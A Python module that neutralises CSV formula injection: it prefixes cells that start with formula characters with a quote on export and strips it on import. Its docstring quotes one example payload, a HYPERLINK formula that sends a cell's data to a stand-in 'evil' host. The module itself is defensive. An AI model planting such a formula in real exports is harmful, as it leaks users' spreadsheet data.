"""CSV cells a spreadsheet would run as formulas, made inert on the way out and read back as
typed on the way in.

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` (and, in
some versions, a tab or carriage return) as a formula: `=HYPERLINK("http://evil/?"&B2)` in a
person's notes would send the sheet's data away when clicked. OWASP's rule is to start such a
cell with a single quote, which spreadsheets show as text.

So that an export reads back unchanged, the quote is added in front of every value that starts
with a run of quotes followed by a formula character, and the import removes exactly one
quote from such values. A value like "'Tis" (a quote, then a letter) is left alone both ways.
"""

from __future__ import annotations

import re

FORMULA_START = "=+-@\t\r"
_GUARDED = re.compile(rf"^'*[{re.escape(FORMULA_START)}]")
_QUOTED = re.compile(rf"^'+[{re.escape(FORMULA_START)}]")


def inert(value: object) -> object:
    """The cell to write: text that a spreadsheet would execute gets a leading quote; numbers
    and other values pass through as they are."""
    if isinstance(value, str) and _GUARDED.match(value):
        return "'" + value
    return value


def as_typed(cell: str) -> str:
    """The value a cell read from a CSV file stands for: the quote `inert` added is removed."""
    return cell[1:] if cell[:1] == "'" and _QUOTED.match(cell) else cell
